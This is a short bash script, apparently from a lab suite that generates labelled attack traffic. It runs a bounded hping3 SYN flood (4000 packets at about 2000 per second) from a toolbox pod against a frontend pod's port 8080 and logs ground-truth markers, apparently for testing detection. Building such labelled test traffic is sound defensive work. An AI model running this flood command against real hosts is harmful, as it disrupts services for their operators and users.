#!/usr/bin/env bash
# Denial of service: a bounded SYN flood (4000 packets at ~2000/s, random source ports)
# against the frontend pod.
set -euo pipefail
source "$LAB_DIR/lib.sh"
T=$(lab_pod_ip frontend); lab_assert_target "$T"
gt_begin hping3-syn-flood denial-of-service hping3 pod:toolbox pod:frontend "hping3 -S -p 8080 -i u500 -c 4000"
lab_exec "$(lab_pod_ns toolbox)" timeout 30 hping3 -q -S -p 8080 -i u500 -c 4000 "$T" >>"$GT_LOG" 2>&1 || true
gt_end '{"dport":8080,"packets":4000}'
